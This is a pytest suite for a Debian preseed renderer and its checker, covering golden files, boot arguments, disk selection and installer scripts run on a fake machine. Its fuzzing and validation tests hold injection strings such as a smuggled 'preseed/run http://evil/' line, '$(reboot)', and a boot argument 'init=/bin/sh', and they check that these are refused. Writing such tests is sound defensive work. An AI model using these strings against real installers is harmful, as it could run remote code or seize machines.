"""Preseeds as a site sees them: the answers, the scripts in them, what is refused, their checks."""

from __future__ import annotations

import base64
import os
import re
import shutil
import signal
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from goldimg.config.models import Firmware
from goldimg.config.settings import load_settings
from goldimg.errors import ConfigError
from goldimg.kickstart.model import Options, builds, load_options
from goldimg.kickstart.preseed import (
    COMMANDS,
    preseed_boot_arguments,
    render_preseed,
    script_of,
)
from goldimg.kickstart.preseed_check import check_preseed, semantic_preseed
from goldimg.kickstart.render import Target
from goldimg.project import Site
from goldimg.run import Runner
from tests.support import needs

ROOT = Path(__file__).parents[1] / "kickstart"
GOLDEN = Path(__file__).parent / "golden/preseed"
HASH = (
    "$6$rounds=5000$salt$IxDD3jeSOb5eB1CX5LBsqZFVkJdido3OUILO5Ifz5iwMuTS4XMS130MTSuDDl3aCI6Wou"
    "IL9AjRbLCelDCy.g."
)
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBKyHkUxvN7bVt9R0x3t2Zb5Y1w8hCq4dE6fG7iJ8kLm packer"
REPORT = "http://10.0.2.2:8080/report/t0ken"
URL = "http://10.0.2.2:8080/ks/t0ken"
NODE: dict[str, Any] = {
    "hardware": "metal",
    "fqdn": "node01.lab.example.com",
    "device": "em1",
    "ipaddr": "192.0.2.11/24",
    "gateway": "192.0.2.1",
    "nameserver": "192.0.2.53,192.0.2.54",
    "disk": "disk/by-id/wwn-0x5000c500a1b2c3d4",
    "fstype": "ext4",
}
# Every shape that renders differently; the first three are golden files too.
SHAPES: dict[str, dict[str, Any]] = {
    "aws": {"fstype": "ext4", "bootsize": 400, "kernel_args": ["console=ttyS0,115200"]},
    "plain": {"fstype": "ext4", "lvm": False, "boot": False, "swap": False},
    "node01": {
        **NODE,
        "ipv6": "2001:db8::11/64",
        "gateway6": "2001:db8::1",
        "mtu": 9000,
        "addresses": ["192.0.2.12/24"],
        "interfaces": [{"device": "52:54:00:12:34:56", "ipaddr": "198.51.100.5/24"}],
        "ntp": ["ntp1.example.com", "192.0.2.123"],
        "proxy": "http://proxy.example.com:3128",
        "repos": {
            "security": "http://mirror.example.com/debian-security",
            "site": "https://repo.example.com/debian",
        },
        "packages": ["vim", "g++"],
        "ssh_keys": [KEY.replace("packer", "admin")],
        "pre": "echo before\n",
        "post": "echo 'it''s' \\\n  \"$HOME\" > /root/proof\n",
        "rootsize": 8192,
        "swapsize": 2048,
    },
    "efi": {"efi": True, "fstype": "ext4"},
    "bios": {"efi": False, "fstype": "xfs"},
    "no boot": {"boot": False, "fstype": "ext4"},
    "no swap": {"swap": False, "fstype": "ext4"},
    "smallest": {**NODE, "disk": "smallest:ssd"},
    "mac": {**NODE, "device": "52:54:00:12:34:57", "ipv6": "none"},
    "dhcp": {"hardware": "metal", "disk": "sda", "fstype": "ext3", "ipv6": "dhcp", "mtu": 1400},
}


def make_target(**changes: Any) -> Target:
    values: dict[str, Any] = {
        "build": "virtual/aws",
        "os_name": "Debian",
        "os_version": "12",
        "family": "debian",
        "syntax": "RHEL9",
        "repo_url": "http://mirror.example.com:8000/debian",
        "timezone": "America/New_York",
        "hostname": "localhost.localdomain",
        "root_hash": HASH,
        "ssh_keys": (KEY,),
        "report_url": REPORT,
    }
    return Target(**{**values, **changes})


def rendered(options: dict[str, Any], **changes: Any) -> str:
    return render_preseed(ROOT, Options(**options), make_target(**changes))


def answers(text: str) -> dict[str, str]:
    """What Debian's installer would read, by its own rules: comments first, then joined lines."""
    lines = "\n".join(line for line in text.split("\n") if not line.startswith("#"))
    found = {}
    for line in re.sub(r"[ \t]*\\\n\s*", " ", lines).splitlines():
        if line.strip():
            _, question, _, value = (*line.split(None, 3), "")[:4]
            found[question] = value
    return found


def scripts(text: str) -> dict[str, str]:
    found = {name: script_of(answers(text)[question]) for name, question in COMMANDS.items()}
    assert None not in found.values()
    return {name: script or "" for name, script in found.items()}


# --- text ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["aws", "plain", "node01"])
def test_the_text_is_as_it_was(name: str) -> None:
    text = rendered(SHAPES[name])
    # Base64 tells a reader nothing, and the comment above it is the same script.
    shown = re.sub(r"echo [A-Za-z0-9+/=]{40,}", "echo BASE64", text)
    path = GOLDEN / f"{name}.cfg"
    if os.environ.get("GOLDEN") == "write":
        path.write_text(shown)
    assert shown == path.read_text()
    assert text == rendered(SHAPES[name])


@pytest.mark.parametrize("name", SHAPES)
@pytest.mark.parametrize("secret", [HASH, None])
def test_every_shape_passes_debconf_and_our_own_rules(name: str, secret: str | None) -> None:
    needs("debconf-set-selections")
    text = rendered(SHAPES[name], root_hash=secret, report_url=REPORT if secret else None)
    assert check_preseed(text, Runner()) == []


@pytest.mark.parametrize("build", builds(ROOT))
def test_every_build_passes_debconf_and_our_own_rules(build: str) -> None:
    needs("debconf-set-selections")
    options = load_options(ROOT, build, {"fstype": "ext4"})
    assert check_preseed(render_preseed(ROOT, options, make_target(build=build)), Runner()) == []


@pytest.mark.parametrize("name", SHAPES)
def test_scripts_are_clean_for_shellcheck(name: str) -> None:
    needs("shellcheck")
    for script in scripts(rendered(SHAPES[name])).values():
        argv = ["shellcheck", "--shell=sh", "--severity=warning", "-"]
        done = subprocess.run(argv, input=script, text=True, capture_output=True, check=False)
        assert done.returncode == 0, done.stdout


def test_the_comment_is_the_script_that_runs() -> None:
    text = rendered(SHAPES["node01"])
    for script in scripts(text).values():
        shown = [f"#  {line}".rstrip() for line in script.rstrip("\n").split("\n")]
        assert "\n".join(shown) in text


def test_no_comment_swallows_the_line_below_it(tmp_path: Path) -> None:
    """debconf joins lines that end in a backslash before it looks for comments; d-i after."""
    root = Path(shutil.copytree(ROOT, tmp_path / "kickstart"))
    with (root / "preseed/late.sh.j2").open("a") as template:
        template.write("echo one \\\n\\")
    text = render_preseed(root, Options(**SHAPES["aws"]), make_target())
    assert not re.search(r"(?m)^#.*\\$", text)
    assert scripts(text)["late"].endswith("echo one \\\n\\")


def test_root_is_locked_where_there_is_no_password() -> None:
    text = answers(rendered(SHAPES["aws"], root_hash=None))
    assert text["passwd/root-password-crypted"] == "!"
    assert text["passwd/root-login"] == "true"
    assert text["passwd/make-user"] == "false"


def test_a_static_network_is_on_the_boot_line() -> None:
    assert preseed_boot_arguments(Options(**NODE), URL) == (
        "auto=true",
        "priority=critical",
        f"url={URL}",
        "interface=em1",
        "hostname=node01",
        "domain=lab.example.com",
        "netcfg/disable_autoconfig=true",
        "netcfg/get_ipaddress=192.0.2.11",
        "netcfg/get_netmask=255.255.255.0",
        "netcfg/get_gateway=192.0.2.1",
        "netcfg/get_nameservers=192.0.2.53",
        "netcfg/confirm_static=true",
    )


def test_dhcp_asks_nothing_of_the_boot_line_but_the_file_and_the_name() -> None:
    options = Options(**SHAPES["aws"])
    assert preseed_boot_arguments(options, URL, "localhost.localdomain") == (
        "auto=true",
        "priority=critical",
        f"url={URL}",
        "interface=auto",
        "hostname=localhost",
        "domain=localdomain",
    )


@pytest.mark.parametrize("url", ["http://a b/", 'http://a/"', "http://a/\ninit=/bin/sh", "a"])
def test_a_url_that_is_more_than_a_word_is_refused(url: str) -> None:
    with pytest.raises(ConfigError, match="ks_url"):
        preseed_boot_arguments(Options(), url)


def test_sizes_are_megabytes_and_a_bounded_root_stays_bounded() -> None:
    text = answers(rendered({**NODE, "rootsize": 8192, "swapsize": 2048, "bootsize": 400}))
    recipe = text["partman-auto/expert_recipe"]
    assert "420 420 420 ext4" in recipe  # 400 MiB
    assert "2148 2148 2148 linux-swap $lvmok{ } lv_name{ swap }" in recipe
    assert "1074 10000 8590 ext4 $lvmok{ } lv_name{ rootvol }" in recipe
    assert text["partman-auto-lvm/guided_size"] == "99%"
    assert text["partman-auto-lvm/new_vg_name"] == "node01_rootvg"


@pytest.mark.parametrize(
    ("options", "key"),
    [
        ({"bond": {"devices": ["em1", "em2"]}}, "bond"),
        ({"device": "em1", "vlan": 5}, "vlan"),
        ({"interfaces": [{"device": "em2", "vlan": 5}]}, "interfaces[0].vlan"),
        ({"raid": {"level": 1, "disks": ["sda", "sdb"]}}, "raid"),
        ({"packages": ["vim", "@core"]}, "packages[1]"),
        ({"packages": ["vim-"]}, "packages[0]"),
        ({"ipaddr": "192.0.2.1/24"}, "nameserver"),
        ({"repos": {"security": "https://example.com/other"}}, "repos.security"),
        ({"repos": {"x": "http://example.com/$x"}}, "repos.x"),
    ],
)
def test_what_the_installer_cannot_do_is_refused_by_its_key(
    options: dict[str, Any], key: str
) -> None:
    with pytest.raises(ConfigError) as caught:
        rendered(options)
    assert [problem.key for problem in caught.value.problems] == [key]


@pytest.mark.parametrize(
    "url",
    [
        "ftp://mirror.example.com/debian",
        "http://mirror.example.com/debian;reboot",
        "http://mirror.example.com/debian\\",
        "http://user:word@mirror.example.com/debian",
    ],
)
def test_a_mirror_that_is_no_plain_url_is_refused(url: str) -> None:
    with pytest.raises(ConfigError, match="repo_server"):
        rendered({}, repo_url=url)


@pytest.mark.parametrize("os_name", ["Debian-12-netinst", "Debian-13-netinst"])
def test_a_netinst_iso_installs_by_preseed(os_name: str) -> None:
    site = Site(root=ROOT.parent)
    mirror = "repo_server=http://mirror.example.com/debian"
    found = load_settings(site, os_name, environ={}, variables=[mirror])
    assert found.os.installer.kind == "debian-installer"
    assert [url.rpartition("/")[2] for url in found.iso_urls()] == [found.iso_file] * 2
    assert all(url.endswith("/amd64/iso-cd/SHA256SUMS") for url in found.checksum_lists())
    firmwares: tuple[Firmware, ...] = ("bios", "efi")
    for firmware in firmwares:
        keys = found.boot_command(URL, firmware)
        assert f"url={URL} interface=auto hostname=localhost domain=localdomain<enter>" in keys
    text = rendered({"fstype": "ext4"}, repo_url=found.repo_url(), extra_repos=found.extra_repos())
    assert answers(text)["apt-setup/security_host"] == "security.debian.org"


# --- nothing a value says becomes anything else ----------------------------------------------

NASTY = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "x\nd-i preseed/run string http://evil/",
            "$(reboot)",
            "`reboot`",
            "a'; reboot; '",
            'a"b',
            "a\\",
            "a\\\n",
            "%s",
            "\u2028d-i a/b string c",
            "#",
            "} mountpoint{ /etc } . 1 1 1 ext4 {",
        ]
    ),
)
KEYS = (
    *("fqdn", "device", "disk", "ipaddr", "gateway", "nameserver", "ipv6", "proxy", "serial"),
    *("packages", "kernel_args", "ntp", "ssh_keys", "pre", "post"),
)
LISTS = ("packages", "kernel_args", "ntp", "ssh_keys")


@settings(deadline=None)
@given(st.dictionaries(st.sampled_from(KEYS), NASTY, max_size=4))
def test_no_accepted_option_adds_an_answer(values: dict[str, str]) -> None:
    plain = {key: [value] if key in LISTS else value for key, value in values.items()}
    try:
        text = rendered({**plain, "fstype": "ext4"})
    except (ValidationError, ConfigError):
        return
    assert semantic_preseed(text) == []
    may_be = {
        "netcfg/disable_autoconfig",
        *(f"netcfg/{name}" for name in ("get_ipaddress", "get_netmask", "get_gateway")),
        *("netcfg/get_nameservers", "netcfg/confirm_static", "clock-setup/ntp-server"),
        *("partman-auto/disk", "debian-installer/add-kernel-opts"),
    }
    assert answers(text).keys() - answers(rendered({"fstype": "ext4"})).keys() <= may_be


@settings(deadline=None, max_examples=40)
@given(st.lists(st.text(st.characters(exclude_categories=["C", "Z"]) | st.just(" "), max_size=20),
                max_size=4))  # fmt: skip
def test_a_snippet_arrives_as_it_was_written(lines: list[str]) -> None:
    body = "\n".join(["true", *lines, "true"])
    try:
        options = Options(fstype="ext4", post=body)
    except ValidationError:
        return
    late = scripts(render_preseed(ROOT, options, make_target(report_url=None)))["late"]
    writer = next(line for line in late.splitlines() if line.endswith('goldimg-post.sh"'))
    writer = writer.removesuffix(' > "$target/root/goldimg-post.sh"')
    said = subprocess.run(["sh", "-c", writer], capture_output=True, check=True).stdout
    assert said.decode() == body + "\n"


@pytest.mark.parametrize("place", ["answer", "word"])
def test_a_template_cannot_let_a_line_end_through(tmp_path: Path, place: str) -> None:
    root = Path(shutil.copytree(ROOT, tmp_path / "kickstart"))
    name = {"answer": "access.cfg.j2", "word": "late.sh.j2"}[place]
    (root / "preseed" / name).write_text('first\nd-i a/b string {{ "x\\ny" }}\n')
    with pytest.raises(ConfigError, match=rf"kickstart/preseed/{re.escape(name)}:2: a value holds"):
        render_preseed(root, Options(fstype="ext4"), make_target())


def test_scripts_that_no_command_line_holds_are_refused(tmp_path: Path) -> None:
    root = Path(shutil.copytree(ROOT, tmp_path / "kickstart"))
    (root / "snippets").mkdir(exist_ok=True)
    (root / "snippets/large.sh").write_text("true\n" * 30_000)
    with pytest.raises(ConfigError, match="the late script is too long: 1"):
        render_preseed(root, Options(fstype="ext4", post=("large",)), make_target())


# --- the check -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("boolean true\nd-i passwd/make", "boolean true\nd-i passwd/mke", "no such question"),
        ("d-i time/zone string America/New_York\n", "", "time/zone: is not answered"),
        ("d-i partman/confirm boolean true\n", "", "partman/confirm: is not answered"),
        ("partman/confirm boolean true", "partman/confirm boolean false", "must be true"),
        ("d-i time/zone", "evil time/zone", "first word must be d-i"),
        ("d-i time/zone string", "d-i time/zone strin", "of no type"),
        (f"password {HASH}", "password geheim", "holds no sha256"),
        ("root-password-crypted password", "root-password password", "in clear text"),
        ("string lvm", "string crypto", "must be lvm or regular"),
        ("mountpoint{ / } .\nd-i", "mountpoint{ / }\nd-i", "no '.' at its end"),
        ("mountpoint{ / } .\nd-i", "mountpoint{ /boot } .\nd-i", "mounts a path twice"),
        ("420 420 420", "420 420 20", "least size above"),
        ("10000 -1 ext4 $lvmok", "10000 -1 zfs $lvmok", "unknown file system"),
        ("string echo ", "string reboot; echo ", "runs what was not checked"),
        ("d-i finish", "d-i preseed/run string x\nd-i finish", "runs what was not checked"),
        ("d-i finish", "d-i time/zone string UTC\nd-i finish", "answered twice"),
    ],
)
def test_the_check_finds(old: str, new: str, told: str) -> None:
    text = rendered(SHAPES["aws"])
    assert old in text
    found = semantic_preseed(text.replace(old, new, 1))
    assert told in "\n".join(map(str, found))
    assert "geheim" not in "\n".join(map(str, found))


def test_debconf_and_the_shell_have_their_say_too() -> None:
    needs("debconf-set-selections")
    broken = base64.b64encode(b"if true; then\n").decode()
    text = re.sub(r"echo [A-Za-z0-9+/=]+ \|", f"echo {broken} |", rendered(SHAPES["aws"]), count=1)
    found = check_preseed(f"{text}lonely\n", Runner())
    assert any("debconf: parse error" in problem.message for problem in found)
    assert any(problem.message.startswith("preseed/early_command: ") for problem in found)


# --- the scripts, run ------------------------------------------------------------------------


def machine(tmp_path: Path, *, efi: bool = False) -> Path:
    """A fake machine: three disks, a stick, a CD, and the medium on one of the disks."""
    disks = {
        "sda": (8 << 21, 0, 1, 0),
        "sdb": (4 << 21, 0, 1, 0),  # the medium
        "sdc": (1 << 21, 1, 0, 0),  # removable
        "sdd": (6 << 21, 0, 0, 0),
        "sde": (2 << 21, 0, 0, 1),  # read-only
        "nvme0n1": (7 << 21, 0, 0, 0),
        "sr0": (1 << 20, 0, 1, 0),
        "loop0": (1 << 20, 0, 0, 0),
        "sdf": (0, 0, 0, 0),
    }
    for name, (size, removable, rotational, read_only) in disks.items():
        path = tmp_path / "sys/block" / name
        (path / "queue").mkdir(parents=True)
        (path / "size").write_text(f"{size}\n")
        (path / "removable").write_text(f"{removable}\n")
        (path / "ro").write_text(f"{read_only}\n")
        (path / "queue/rotational").write_text(f"{rotational}\n")
        (tmp_path / "dev/disk/by-id").mkdir(parents=True, exist_ok=True)
        (tmp_path / "dev" / name).touch()
    (tmp_path / "dev/disk/by-id/wwn-1").symlink_to("../../sdd")
    if efi:
        (tmp_path / "sys/firmware/efi").mkdir(parents=True)
    (tmp_path / "mounts").write_text(
        "/dev/sdb1 /cdrom iso9660 ro 0 0\n/dev/sda1 /mnt ext4 rw 0 0\n"
    )
    bin_ = tmp_path / "bin"
    bin_.mkdir()
    for tool in ("debconf-set", "logger", "wget", "in-target"):
        (bin_ / tool).write_text(f'#!/bin/sh\necho "{tool} $*" >> {tmp_path}/said\n')
        (bin_ / tool).chmod(0o755)
    return tmp_path


def run_script(script: str, tmp_path: Path, shell: tuple[str, ...] = ("sh",)) -> tuple[int, str]:
    env = {
        "PATH": f"{tmp_path}/bin:{os.environ['PATH']}",
        **{f"GOLDIMG_{name.upper()}": str(tmp_path / name)
           for name in ("sys", "mounts", "dev", "target")},
    }  # fmt: skip
    done = subprocess.run(
        [*shell, "-c", script], env=env, text=True, capture_output=True, check=False
    )
    said = tmp_path / "said"
    return done.returncode, (said.read_text() if said.exists() else "") + done.stderr


@pytest.mark.parametrize("shell", [("sh",), ("bash", "--posix"), ("busybox", "sh")])
@pytest.mark.parametrize(
    ("disk", "chosen"),
    [
        ("smallest", "sdd"),
        ("smallest:hdd", "sda"),
        ("smallest:ssd", "sdd"),
        ("smallest:nvme", "nvme0n1"),
        ("disk/by-id/wwn-1", "sdd"),
        ("sda", "sda"),
    ],
)
def test_the_disk_is_the_one_that_was_asked_for(
    tmp_path: Path, disk: str, chosen: str, shell: tuple[str, ...]
) -> None:
    needs(shell[0])
    script = scripts(rendered({**NODE, "disk": disk}))["disk"]
    code, said = run_script(script, machine(tmp_path), shell)
    assert code == 0, said
    assert f"debconf-set partman-auto/disk /dev/{chosen}\n" in said
    assert f"debconf-set grub-installer/bootdev /dev/{chosen}\n" in said
    assert "expert_recipe" not in said


@pytest.mark.parametrize(
    ("options", "told"),
    [
        ({"disk": "sdz"}, "this machine has no sdz; there are: nvme0n1 (7168 MiB)"),
        ({"disk": "disk/by-id/wwn-2"}, "this machine has no disk/by-id/wwn-2"),
        ({"disk": None, "hardware": "virtual"}, "disk: is needed, since this machine has several"),
        ({"efi": True}, "efi is true, but this machine was started in BIOS mode"),
    ],
)
def test_no_other_disk_is_taken_than_the_one_that_was_asked_for(
    tmp_path: Path, options: dict[str, Any], told: str
) -> None:
    script = scripts(rendered({**NODE, "disk": "sda", **options}))["disk"]
    code, said = run_script(script, machine(tmp_path))
    assert code == 1
    assert told in said
    assert f"{REPORT}/failed" in said
    set_to = re.findall(r"debconf-set partman-auto/disk (.*)", said)
    assert set_to == ["/dev/goldimg-stopped"]


def test_efi_gets_an_esp_and_bios_none(tmp_path: Path) -> None:
    text = rendered({**NODE, "disk": "sda"})
    assert "method{ efi }" not in answers(text)["partman-auto/expert_recipe"]
    code, said = run_script(scripts(text)["disk"], machine(tmp_path, efi=True))
    assert code == 0
    recipe = next(line for line in said.splitlines() if "expert_recipe" in line)
    assert "210 210 210 free $iflabel{ gpt } method{ efi }" in recipe
    assert "$bootable" not in recipe  # on GPT that flag marks an ESP


@pytest.mark.parametrize("shell", [("sh",), ("busybox", "sh")])
def test_the_installers_log_tells_the_stages_and_nobody_waits_for_it(
    tmp_path: Path, shell: tuple[str, ...]
) -> None:
    """The installer waits until its pipes are closed: what stays behind must not hold them."""
    needs(shell[0])
    log, said = tmp_path / "log", tmp_path / "said"
    log.write_text("main-menu[1]: INFO: Menu item 'grub-installer' selected\n")
    lines = (
        "main-menu[1]: INFO: Menu item 'bootstrap-base' selected\n"
        "main-menu[1]: WARNING **: Configuring 'bootstrap-base' failed with error code 1\n"
    )
    script = scripts(rendered({**NODE, "ipaddr": None, "gateway": None, "nameserver": None}))
    # A function, since busybox would take its own wget rather than one of PATH.
    wget = f'wget() {{ echo "$*" >> {said}; }}\n'
    process = subprocess.Popen(
        [*shell, "-c", wget + script["early"]],
        env={"PATH": os.environ["PATH"], "GOLDIMG_LOG": str(log)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    try:
        process.communicate(timeout=20)
        assert process.returncode == 0
        end = time.monotonic() + 20
        while f"{REPORT}/failed" not in said.read_text() and time.monotonic() < end:
            # Again and again: the watcher may not have begun yet.
            with log.open("a") as stream:
                stream.write(lines)
            time.sleep(0.2)
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
    told = re.findall(rf"{REPORT}/(\w+)", said.read_text())
    assert told[:4] == ["started", "pre", "packages", "failed"]
    assert "bootloader" not in told  # what the log held before


def test_the_late_script_finishes_the_system(tmp_path: Path) -> None:
    target = tmp_path / "target"
    (target / "etc/network").mkdir(parents=True)
    (target / "etc/hosts").write_text("127.0.0.1\tlocalhost\n127.0.1.1\tdebian\n")
    (target / "root").mkdir()
    options = {**SHAPES["node01"]}
    options["interfaces"] = [{"device": "em2", "ipaddr": "198.51.100.5/24"}]
    code, said = run_script(scripts(rendered(options))["late"], machine(tmp_path))
    assert code == 0, said
    assert (target / "etc/hostname").read_text() == "node01\n"
    assert "127.0.1.1\tnode01.lab.example.com node01\n" in (target / "etc/hosts").read_text()
    keys = target / "root/.ssh/authorized_keys"
    assert keys.read_text().splitlines() == [KEY, KEY.replace("packer", "admin")]
    assert keys.stat().st_mode & 0o777 == 0o600
    assert (target / "etc/network/interfaces.d/goldimg").read_text() == (
        "iface em1 inet6 static\n    address 2001:db8::11/64\n    gateway 2001:db8::1\n"
        "iface em1 inet static\n    address 192.0.2.12/24\n"
        'iface em1 inet manual\n    up ip link set dev "$IFACE" mtu 9000\n'
        "auto em2\niface em2 inet static\n    address 198.51.100.5/24\n"
    )
    assert "nameserver 192.0.2.54\n" in (target / "etc/resolv.conf").read_text()
    assert f"{REPORT}/post" in said
    assert f"{REPORT}/done" in said
    assert "in-target sh -c exec sh /root/goldimg-post.sh" in said
    assert not (target / "root/goldimg-post.sh").exists()


def test_a_post_that_fails_is_reported(tmp_path: Path) -> None:
    target = tmp_path / "target"
    (target / "etc").mkdir(parents=True)
    (target / "etc/hosts").touch()
    (target / "root").mkdir()
    machine(tmp_path)
    (tmp_path / "bin/in-target").write_text("#!/bin/sh\nexit 3\n")
    code, said = run_script(scripts(rendered({**NODE, "post": "false"}))["late"], tmp_path)
    assert code == 3
    assert f"{REPORT}/failed" in said
    assert f"{REPORT}/done" not in said
